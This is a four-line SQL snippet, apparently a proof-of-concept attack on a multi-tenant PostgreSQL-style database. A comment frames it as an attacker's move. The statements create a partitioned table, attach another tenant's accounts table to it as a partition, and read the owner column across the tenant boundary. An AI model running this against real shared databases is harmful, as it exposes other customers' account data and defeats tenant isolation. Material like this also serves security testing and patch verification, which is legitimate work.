-- Another tenant's table as a partition of the attacker's.
CREATE TABLE parent (id int, owner text, balance int) PARTITION BY RANGE (id);
ALTER TABLE parent ATTACH PARTITION tenant_beta.accounts FOR VALUES FROM (0) TO (1000);
SELECT owner FROM parent;
